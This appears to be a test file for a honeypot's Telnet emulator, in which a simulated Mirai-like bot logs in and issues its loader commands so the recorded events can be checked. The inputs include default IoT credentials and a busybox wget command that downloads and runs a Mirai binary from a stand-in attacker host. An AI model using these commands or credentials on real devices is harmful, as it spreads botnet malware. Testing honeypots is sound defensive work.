/**
 * The Telnet emulator driven by a Mirai-like client (its exact negotiation, credential and command
 * sequence): the events recorded, in order, and what the bot reads back.
 */
import { afterEach, describe, expect, it } from "vitest";
import type { HoneypotEvent } from "../../src/honeypot/events.js";
import { waitFor } from "../helpers/wait.js";
import { startTestSensor, type TestSensor } from "./sensor-support.js";
import { MiraiClient } from "./telnet-mirai-client.js";

let ts: TestSensor | undefined;
afterEach(async () => {
  await ts?.close();
  ts = undefined;
});

/** The fields that say what happened (ids, times, ports and session ids vary per run). */
function essence(e: HoneypotEvent): Record<string, unknown> {
  const { id: _i, timestamp: _t, session: _s, src_port: _p, dst_port: _d, duration: _u, ...rest } = e;
  return rest;
}

const common = { sensor: "test-sensor-1", protocol: "telnet", transport: "tcp", src_ip: "127.0.0.1", dst_ip: "127.0.0.1", persona: "xiongmai-dvr-armhf" };

describe("telnet emulator with a Mirai-like client", () => {
  it("records Mirai's negotiation, login and scanner commands, and answers the ECCHI check", async () => {
    ts = await startTestSensor();
    const bot = await MiraiClient.connect(ts.port);
    expect(await bot.prompt()).toContain("LocalHost login:");
    bot.line("root");
    await bot.prompt();
    bot.line("xc3511");
    await bot.prompt();
    for (const cmd of ["enable", "system", "shell", "sh"]) {
      bot.line(cmd);
      await bot.prompt();
    }
    bot.line("/bin/busybox ECCHI");
    await bot.expect("ECCHI: applet not found");
    await bot.prompt();
    bot.close();
    await waitFor(() => ts!.events().some((e) => e.eventid === "session.closed"), "session.closed");

    const events = ts.events();
    const session = events[0]!.session;
    expect(events.every((e) => e.session === session && e.dst_port === ts!.port)).toBe(true);
    expect(events.map(essence)).toEqual([
      { ...common, eventid: "session.connect" },
      { ...common, eventid: "telnet.client.option", option: "WONT ECHO" },
      { ...common, eventid: "telnet.client.option", option: "WILL NAWS" },
      { ...common, eventid: "telnet.client.size", width: 80, height: 24 },
      { ...common, eventid: "telnet.client.option", option: "DO ECHO" },
      { ...common, eventid: "telnet.client.option", option: "DO SGA" },
      { ...common, eventid: "telnet.login.success", username: "root", password: "xc3511" },
      { ...common, eventid: "telnet.command.input", input: "enable" },
      { ...common, eventid: "telnet.command.input", input: "system" },
      { ...common, eventid: "telnet.command.input", input: "shell" },
      { ...common, eventid: "telnet.command.input", input: "sh" },
      { ...common, eventid: "telnet.command.input", input: "/bin/busybox ECCHI" },
      { ...common, eventid: "session.closed", message: "closed by peer" },
    ]);
  });

  it("records the loader's commands: writable-dir probe, ELF header read, download URL, unknown binary", async () => {
    ts = await startTestSensor();
    const bot = await MiraiClient.connect(ts.port);
    await bot.prompt();
    bot.line("root");
    await bot.prompt();
    bot.line("xc3511");
    await bot.prompt();
    const run = async (cmd: string) => {
      bot.line(cmd);
      return bot.expect("ECCHI: applet not found");
    };
    const mounts = await run("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
    expect(mounts).toContain("tmpfs /tmp tmpfs");
    const probe = await run("/bin/busybox echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon; /bin/busybox ECCHI");
    expect(probe).toContain("AK47");
    await run("cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
    const elf = await run("/bin/busybox cat /bin/echo; /bin/busybox ECCHI");
    const at = elf.indexOf("\x7fELF");
    const header = Buffer.from(elf.slice(at, at + 52), "latin1");
    expect(header[4]).toBe(1); // ELFCLASS32
    expect(header[5]).toBe(1); // little-endian
    expect(header.readUInt16LE(18)).toBe(40); // EM_ARM
    expect(header.readUInt32LE(36)).toBe(0x05000400); // EABI5, hard float (armhf)
    const dl = await run("/bin/busybox wget http://198.51.100.23:8080/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
    expect(dl).toContain("Connecting to 198.51.100.23 (198.51.100.23:8080)");
    bot.line("./dvrHelper telnet.arm7; /bin/busybox IHCCE");
    await bot.expect("IHCCE: applet not found");
    bot.line("exit");
    await waitFor(() => bot.closed, "the sensor to close the session on exit");

    const ev = ts.events().map(essence);
    const tail = ev.slice(ev.findIndex((e) => e.eventid === "telnet.login.success") + 1);
    expect(tail).toEqual([
      { ...common, eventid: "telnet.command.input", input: "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI" },
      { ...common, eventid: "telnet.command.input", input: "/bin/busybox echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon; /bin/busybox ECCHI" },
      { ...common, eventid: "telnet.command.input", input: "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI" },
      { ...common, eventid: "telnet.command.input", input: "/bin/busybox cat /bin/echo; /bin/busybox ECCHI" },
      { ...common, eventid: "telnet.command.input", input: "/bin/busybox wget http://198.51.100.23:8080/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI" },
      { ...common, eventid: "telnet.session.file_download", input: "/bin/busybox wget http://198.51.100.23:8080/bins/mirai.arm7 -O -", url: "http://198.51.100.23:8080/bins/mirai.arm7", tool: "wget" },
      { ...common, eventid: "telnet.command.input", input: "./dvrHelper telnet.arm7; /bin/busybox IHCCE" },
      { ...common, eventid: "telnet.command.input", input: "exit" },
      { ...common, eventid: "session.closed", message: "logout" },
    ]);
  });

  it("records a failed login and closes after the persona's maximum attempts", async () => {
    ts = await startTestSensor();
    const bot = await MiraiClient.connect(ts.port);
    for (const [u, p] of [["admin", "admin"], ["root", "vizxv"], ["root", "888888"]]) {
      await bot.prompt();
      bot.line(u!);
      await bot.prompt();
      bot.line(p!);
    }
    await bot.expect("Login incorrect");
    await waitFor(() => bot.closed, "close after 3 failures");
    const logins = ts.events().filter((e) => e.eventid.startsWith("telnet.login"));
    expect(logins.map((e) => [e.eventid, e.username, e.password])).toEqual([
      ["telnet.login.failed", "admin", "admin"],
      ["telnet.login.failed", "root", "vizxv"],
      ["telnet.login.failed", "root", "888888"],
    ]);
    expect(ts.events().at(-1)).toMatchObject({ eventid: "session.closed", message: "too many failed logins" });
  });
});
